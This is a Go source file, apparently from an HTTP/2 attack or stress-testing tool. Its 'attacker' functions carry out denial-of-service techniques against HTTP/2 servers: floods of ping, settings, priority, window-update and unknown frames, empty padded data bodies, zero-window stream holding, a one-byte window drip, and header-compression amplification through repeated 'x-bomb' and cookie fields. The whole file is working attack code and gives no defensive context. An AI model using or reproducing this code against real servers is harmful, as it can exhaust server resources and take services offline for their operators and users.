package main

import (
	"bytes"
	"strings"
)

// piecesPerWrite is how many small frames go in one write.
const piecesPerWrite = 256

// deaf repeats frames on a connection that is not read.
func deaf(next func(dst []byte, n uint32) []byte) func(a *attacker) error {
	return func(a *attacker) error {
		if err := a.open(nil); err != nil {
			return err
		}
		return a.flood(next)
	}
}

// hearing repeats frames on a connection that is read.
func hearing(next func(dst []byte, n uint32) []byte) func(a *attacker) error {
	return func(a *attacker) error {
		if err := a.open(nil); err != nil {
			return err
		}
		go a.frames(nil)
		return a.flood(next)
	}
}

func (a *attacker) flood(next func(dst []byte, n uint32) []byte) error {
	var b []byte
	n := uint32(0)
	return a.repeat(func() []byte {
		b = b[:0]
		for range piecesPerWrite {
			b = next(b, n)
			n++
		}
		return b
	})
}

func pings(dst []byte, _ uint32) []byte {
	return appendFrame(dst, framePing, 0, 0, []byte("millrace"))
}

func settingsFrames(dst []byte, n uint32) []byte {
	return appendSetting(dst, settingInitialWindow, 65535+n%2)
}

func priorities(dst []byte, n uint32) []byte {
	if n%2 == 0 {
		return appendFrame(dst, framePriority, 0, 1+2*(n%1000), []byte{0, 0, 0, 0, byte(n)})
	}
	return appendFrame(dst, framePriorityUp, 0, 0, append([]byte{0, 0, 0, 1}, "u=1"...))
}

func windowUpdates(dst []byte, _ uint32) []byte { return appendNumber(dst, frameWindowUpdate, 0, 1) }

func unknownFrames(dst []byte, _ uint32) []byte { return appendFrame(dst, frameUnknown, 0, 0, nil) }

// emptyData sends a body that is nothing but frames: of no length, or of padding.
func emptyData(a *attacker) error {
	if err := a.open(nil); err != nil {
		return err
	}
	go a.frames(nil)
	if err := a.send(appendFrame(nil, frameHeaders, flagEndHeaders, 1, appendRequest(nil, indexPost, smallPath))); err != nil {
		return err
	}
	return a.flood(func(dst []byte, _ uint32) []byte {
		if a.index%2 == 0 {
			return appendFrame(dst, frameData, 0, 1, nil)
		}
		return appendFrame(dst, frameData, flagPadded, 1, []byte{0})
	})
}

// swells are the heads of the attackers of zeroWindow: a field that the table stores once, and how often each head names
// it. What a request costs is made large by the body alone, by heads within every usual limit that take hundreds of times
// their bytes on the wire, by some within limits on that too, and by one that is beyond.
var swells = []struct {
	name  string
	bytes int
	times int
}{
	{"", 0, 0},
	{"x-bomb", 500, 80},
	{"cookie", 500, 80},
	{"x", 0, crumbsPerBlock},
	{"x-bomb", 500, 20},
	{"cookie", 3900, 2},
	{"x", 0, 90},
	{"x-bomb", storedBytes, 14},
}

// zeroWindow asks for large bodies and lets not a byte of them through, so that whatever a request costs stays.
func zeroWindow(a *attacker) error {
	if err := a.open(appendSetting(nil, settingInitialWindow, 0)); err != nil {
		return err
	}
	go a.frames(nil)
	first := appendRequest(nil, indexGet, heldPath)
	swell := swells[a.index%len(swells)]
	if swell.times > 0 {
		first = appendStored(first, swell.name, strings.Repeat("x", swell.bytes))
	}
	b := appendFrame(nil, frameHeaders, flagEndHeaders|flagEndStream, 1, first)
	block := append(appendRequest(nil, indexGet, heldPath), bytes.Repeat([]byte{indexNewest}, swell.times)...)
	for i := range uint32(batchStreams - 1) {
		b = appendFrame(b, frameHeaders, flagEndHeaders|flagEndStream, 3+2*i, block)
	}
	if err := a.send(b); err != nil {
		return err
	}
	// The connection stays, and moves a window now and then that stays at zero nevertheless.
	again := appendSetting(nil, settingInitialWindow, 0)
	return a.repeat(func() []byte { _ = pause(a.ctx, slowPause); return again })
}

// windowDrip takes large bodies a byte at a time.
func windowDrip(a *attacker) error {
	if err := a.open(appendSetting(nil, settingInitialWindow, 1)); err != nil {
		return err
	}
	go a.frames(nil)
	block := appendRequest(nil, indexGet, heldPath)
	var b []byte
	for i := range uint32(batchStreams) {
		b = appendFrame(b, frameHeaders, flagEndHeaders|flagEndStream, 1+2*i, block)
	}
	if err := a.send(b); err != nil {
		return err
	}
	return a.flood(func(dst []byte, n uint32) []byte {
		return appendNumber(dst, frameWindowUpdate, 1+2*(n%batchStreams), 1)
	})
}
